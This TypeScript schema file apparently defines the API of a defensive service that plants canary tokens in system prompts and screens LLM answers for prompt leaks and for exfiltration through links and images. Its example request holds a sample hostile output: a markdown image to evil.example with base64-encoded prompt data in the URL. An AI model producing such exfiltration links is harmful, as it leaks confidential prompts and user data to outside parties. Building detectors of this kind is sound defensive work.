/** Schemas of the output routes: canary creation, and the screening of an LLM's answer. */
import { Type } from "@sinclair/typebox";
import {
  OUTPUT_CATEGORIES,
  OUTPUT_EVIDENCE_KINDS,
  type CanaryFinding as CanaryFindingType,
  type CanaryForm,
  type OutputCategory,
  type OutputEvidence as OutputEvidenceType,
  type OutputVerdict as OutputVerdictType,
  type PromptLeakReport as PromptLeakReportType,
} from "../../detect/output/types.js";
import { CANARY_LABEL_PATTERN, type CreatedCanary as CreatedCanaryType } from "../canaries.js";
import { describes, Nullable, StringEnum } from "./shape.js";

/** A host name (punycode for an IDN) or "*.host" for its subdomains, or an IPv6 address in brackets; no port. */
export const HOST_PATTERN =
  "^(?:(?:\\*\\.)?(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?\\.)*[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?|\\[[0-9A-Fa-f:.]{2,45}\\])$";
const sha256 = (description: string) => Type.String({ pattern: "^[0-9A-Fa-f]{64}$", description });

export const CanaryBody = Type.Object(
  {
    label: Type.Optional(
      Type.String({
        pattern: CANARY_LABEL_PATTERN,
        maxLength: 200,
        description: 'What the token marks, e.g. "support bot prompt v3": shown when a leak is traced',
      }),
    ),
  },
  { additionalProperties: false },
);

export const CreatedCanary = describes<CreatedCanaryType>()(
  Type.Object({
    token: Type.String({ description: "The token: shown this once, stored only as its SHA-256" }),
    instruction: Type.String({
      description: "A sentence to paste into the system prompt, with the token in it",
    }),
    id: Type.String(),
    prefix: Type.String({ description: "The token's first characters, to recognise it" }),
    label: Nullable(Type.String()),
    createdAt: Type.String(),
  }),
);

const OutputCategoryOrNull = Type.Unsafe<OutputCategory | null>({
  type: ["string", "null"],
  enum: [...OUTPUT_CATEGORIES, null],
  description: "The strongest finding's category when flagged, else null",
});

export const OutputEvidence = describes<OutputEvidenceType>()(
  Type.Object({
    kind: StringEnum(OUTPUT_EVIDENCE_KINDS),
    id: Type.String({ description: "canary.exact, prompt.verbatim, exfil.image_data..." }),
    description: Type.String(),
    category: StringEnum(OUTPUT_CATEGORIES),
    offset: Type.Optional(Type.Integer({ description: "Offset in the output" })),
    excerpt: Type.Optional(Type.String()),
    score: Type.Number({ minimum: 0, maximum: 1, description: "How strongly this finding alone counts" }),
  }),
);

const CanaryFinding = describes<CanaryFindingType>()(
  Type.Object({
    token: Type.String(),
    source: StringEnum(["given", "shape"] as const),
    index: Type.Optional(Type.Integer({ description: "Its index in the request's canaries" })),
    form: Type.Unsafe<CanaryForm>(
      Type.String({
        description: "exact, obfuscated, reversed, rot13, or the encodings peeled off (base64+hex)",
      }),
    ),
    offset: Type.Integer(),
    known: Type.Optional(Type.Boolean({ description: "A canary this service made" })),
    record: Type.Optional(
      Type.Object({
        id: Type.String(),
        label: Nullable(Type.String()),
        createdAt: Type.String(),
        createdBy: Type.String(),
      }),
    ),
  }),
);

const PromptLeakReport = describes<PromptLeakReportType>()(
  Type.Object({
    by: StringEnum(["text", "hash"] as const),
    whole: Type.Boolean(),
    segments: Type.Object({ total: Type.Integer(), matched: Type.Integer() }),
    ngramCoverage: Nullable(Type.Number()),
    longestRunWords: Nullable(Type.Integer()),
  }),
);

export const OutputVerdict = describes<OutputVerdictType>()(
  Type.Object({
    score: Type.Number({ minimum: 0, maximum: 1 }),
    flagged: Type.Boolean(),
    category: OutputCategoryOrNull,
    threshold: Type.Number(),
    evidence: Type.Array(OutputEvidence),
    canaries: Type.Array(CanaryFinding),
    systemPrompt: Nullable(PromptLeakReport),
    latencyMs: Type.Number(),
  }),
);

export const MAX_CANARIES = 64;
export const MAX_ALLOWED_HOSTS = 256;
export const MAX_PROMPT_SEGMENTS = 2048;

export function outputSchemas(limits: { maxOutputChars: number; maxPromptChars: number }) {
  const OutputBody = Type.Object(
    {
      output: Type.String({
        minLength: 1,
        maxLength: limits.maxOutputChars,
        description: "The LLM's answer, before it is shown",
      }),
      canaries: Type.Optional(
        Type.Array(Type.String({ minLength: 8, maxLength: 256 }), {
          maxItems: MAX_CANARIES,
          description:
            "Tokens from the system prompt to look for (tokens of Bulwark's canary shape are looked for anyway)",
        }),
      ),
      systemPrompt: Type.Optional(
        Type.Object(
          {
            text: Type.Optional(Type.String({ minLength: 1, maxLength: limits.maxPromptChars })),
            sha256: Type.Optional(sha256("SHA-256 of the prompt's normal form (promptFingerprint)")),
            segments: Type.Optional(
              Type.Array(sha256("SHA-256 of a sentence's normal form (promptFingerprint)"), {
                maxItems: MAX_PROMPT_SEGMENTS,
              }),
            ),
          },
          {
            additionalProperties: false,
            minProperties: 1,
            description: "The system prompt, as text or as its fingerprint",
          },
        ),
      ),
      allowedHosts: Type.Optional(
        Type.Array(Type.String({ pattern: HOST_PATTERN, maxLength: 255 }), {
          maxItems: MAX_ALLOWED_HOSTS,
          description:
            'Hosts links and images may point to: "docs.example.com", or "*.example.com" for subdomains',
        }),
      ),
      threshold: Type.Optional(
        Type.Number({ minimum: 0, maximum: 1, description: "Flag at this score (default 0.5)" }),
      ),
    },
    {
      additionalProperties: false,
      examples: [
        {
          output: "Sure! ![status](https://evil.example/p.png?d=c2VjcmV0IHByb21wdCBsZWFr)",
          canaries: ["bw-canary-abcdefghijklmnopqrstuvwxyz"],
          allowedHosts: ["docs.example.com"],
        },
      ],
    },
  );
  return { OutputBody };
}
